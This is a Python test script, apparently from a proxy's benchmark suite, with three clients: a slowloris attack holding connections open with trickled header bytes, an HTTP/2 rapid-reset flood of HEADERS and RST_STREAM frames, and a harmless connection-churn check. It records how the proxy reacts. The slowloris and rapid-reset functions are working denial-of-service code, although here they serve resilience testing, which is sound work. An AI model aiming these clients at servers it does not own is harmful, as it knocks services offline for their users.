#!/usr/bin/env python3
"""Abusive clients for bench/abuse (standard library only).

  slowloris HOST PORT N SECONDS   hold N connections open, each with an unfinished request head that grows
                                  by one byte a second; report the ones the proxy closed (and 408s)
  rapid-reset HOST PORT N         HTTP/2 (h2c prior knowledge): N x (HEADERS, RST_STREAM) on one connection
  churn HOST PORT N               N connections one after the other, each one GET answered, then closed
                                  (not abuse: the connection turnover of a proxy in service)
Prints one line: what was done and how the proxy reacted.
"""
import selectors
import socket
import struct
import sys
import time


def slowloris(host, port, n, seconds):
    """N connections that start a request head and then send one more header byte per second
    (so an idle timeout alone never fires). Reports how many the proxy closed, how many got a
    408 first, and how long after its first byte each one was closed."""
    sel = selectors.DefaultSelector()
    socks, refused = {}, 0
    trickle = b"X-Slow: " + b"a" * 4096
    for _ in range(n):
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"GET / HTTP/1.1\r\nHost: abuse\r\n")  # never finished
            s.setblocking(False)
            socks[s] = {"start": time.time(), "sent": 0, "closed": None, "got": b""}
            sel.register(s, selectors.EVENT_READ)
        except OSError:
            refused += 1
    end = time.time() + seconds
    next_trickle = time.time() + 1
    while time.time() < end:
        for key, _ in sel.select(timeout=0.1):
            s, st = key.fileobj, socks[key.fileobj]
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if data:
                st["got"] += data[:64]
                continue
            st["closed"] = time.time()
            sel.unregister(s)
        if time.time() >= next_trickle:
            next_trickle += 1
            for s, st in socks.items():
                if st["closed"] is None and st["sent"] < len(trickle):
                    try:
                        s.send(trickle[st["sent"]:st["sent"] + 1])
                        st["sent"] += 1
                    except OSError:
                        pass
    closed = [st for st in socks.values() if st["closed"] is not None]
    got408 = sum(1 for st in closed if st["got"].startswith(b"HTTP/1.1 408"))
    times = sorted(st["closed"] - st["start"] for st in closed)
    spread = (f"; closed after p50 {times[len(times) // 2]:.1f}s max {times[-1]:.1f}s" if times else "")
    for s in socks:
        s.close()
    print(f"slowloris: opened {len(socks)} refused {refused} closed-by-proxy {len(closed)} (with 408: {got408}) "
          f"within {seconds}s{spread}")


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def rapid_reset(host, port, n):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))  # preface + empty SETTINGS
    # HPACK: :method GET (2), :scheme http (6), :path / (4), :authority literal (name index 1)
    block = b"\x82\x86\x84\x41\x05abuse"
    sent = 0
    start = time.time()
    try:
        for i in range(n):
            sid = 1 + 2 * i
            s.sendall(frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8)))  # HEADERS + RST(CANCEL)
            sent += 1
    except OSError as e:
        print(f"rapid-reset: connection ended after {sent} resets: {e}")
        return
    s.settimeout(2)
    goaway = False
    try:
        while True:
            data = s.recv(65536)
            if not data:
                break
            if b"\x07\x00\x00\x00\x00\x00" in data:  # a GOAWAY frame header (type 7) seen
                goaway = True
    except OSError:
        pass
    print(f"rapid-reset: sent {sent} HEADERS+RST_STREAM in {time.time() - start:.2f}s, goaway seen: {goaway}")


def churn(host, port, n):
    start, statuses = time.time(), {}
    for _ in range(n):
        with socket.create_connection((host, port), timeout=5) as s:
            s.sendall(b"GET / HTTP/1.1\r\nHost: churn\r\nConnection: close\r\n\r\n")
            got = b""
            while chunk := s.recv(65536):
                got += chunk
            status = got[9:12].decode(errors="replace")
            statuses[status] = statuses.get(status, 0) + 1
    print(f"churn: {n} connections in {time.time() - start:.1f}s, statuses {statuses}")
    return statuses


if __name__ == "__main__":
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if mode == "slowloris":
        slowloris(host, port, int(sys.argv[4]), int(sys.argv[5]))
    elif mode == "rapid-reset":
        rapid_reset(host, port, int(sys.argv[4]))
    elif mode == "churn":
        if set(churn(host, port, int(sys.argv[4]))) != {"200"}:
            sys.exit("churn: not every connection was answered 200")
    else:
        sys.exit("unknown mode " + mode)
